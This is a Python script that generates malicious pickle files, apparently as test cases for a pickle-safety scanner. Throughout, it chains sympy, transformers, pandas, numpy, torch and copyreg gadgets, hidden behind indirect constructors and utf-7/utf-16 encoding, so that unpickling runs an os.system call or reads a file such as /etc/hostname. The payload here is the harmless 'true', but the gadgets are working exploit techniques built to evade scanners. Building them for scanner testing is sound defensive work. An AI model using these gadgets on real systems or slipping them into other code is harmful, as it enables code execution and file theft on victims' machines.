# Texts that are more than texts to the class that is given them: SymPy evaluates them, a tokenizer reads the file of that
# name, pandas opens the time zone.
from pickle_asm import *


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(item) if isinstance(item, bytes) else item for item in arguments)) + REDUCE


def attack(name, code):
    save(name + ".pkl", proto(4) + code + STOP)


CODE = "__import__('os').system('true')"
ZONE = "dateutil//etc/hostname"


def zone(made):
    return called("pandas", "DatetimeTZDtype", "ns", made)


attack("evaluated", called("sympy", "Abs", CODE))
attack("evaluated_new", stack_global("sympy.core.add", "Add") + args(1, CODE) + NEWOBJ)
attack("evaluated_inside", called("sympy", "Tuple", [1, [CODE]]))
attack("evaluated_object", called("sympy", "Abs", called("pathlib", "PurePath", CODE)))
attack("evaluated_late", called("sympy", "Add", [1] * 80 + [CODE]))
attack("tokenizer", called("transformers.models.bert.tokenization_bert", "BertTokenizer", "/etc/hostname"))
attack("settings", called("transformers.integrations.deepspeed", "HfDeepSpeedConfig", "/etc/hostname"))
attack("arguments", called("transformers.training_args", "TrainingArguments", "/tmp/x"))
attack("zone_encoded", zone(called("builtins", "str", data(ZONE.encode("utf-16")), "utf-16")))
attack("zone_decoded", zone(called("builtins", "str", data(ZONE.encode("utf-7")), "utf-7")))
attack("zone_of_numpy", zone(called("numpy", "str_", ZONE)))
attack("zone_of_scalar", zone(called("numpy.core.multiarray", "scalar", called("numpy", "dtype", f"<U{len(ZONE)}"), data(ZONE.encode("utf-32-le")))))
attack("zone_set_again", called("pandas.core.indexes.datetimes", "_new_DatetimeIndex", stack_global("pandas", "DatetimeIndex"),
                                EMPTY_DICT + MARK + (text("tz") + NONE) * 80 + text("tz") + text(ZONE) + SETITEMS))

# The same by way of what calls a class.
ABS = stack_global("sympy", "Abs")
OPTIONS = called("collections", "OrderedDict") + MARK + text("tz") + text(ZONE) + SETITEMS
attack("evaluated_by_constructor", called("builtins", "getattr", ABS, "__new__") + args(raw(ABS), CODE) + REDUCE)
attack("evaluated_by_base", called("copyreg", "_reconstructor", stack_global("argparse", "Namespace"), ABS, CODE))
attack("evaluated_by_newobj", called("copyreg", "__newobj__", ABS, CODE))
attack("evaluated_by_generator", called("numpy.random._pickle", "__generator_ctor", CODE, ABS))
attack("evaluated_by_map", called("builtins", "list", called("builtins", "map", ABS, EMPTY_LIST + text(CODE) + APPEND)))
attack("evaluated_by_tensor", called("torch._tensor", "_rebuild_from_type_v2", ABS, ABS, args(CODE), {}))
attack("zone_by_keywords", stack_global("pandas", "Timestamp") + args("2020-01-01") + OPTIONS + NEWOBJ_EX)
attack("zone_in_order", called("pandas.core.indexes.datetimes", "_new_DatetimeIndex", stack_global("pandas", "DatetimeIndex"), OPTIONS))
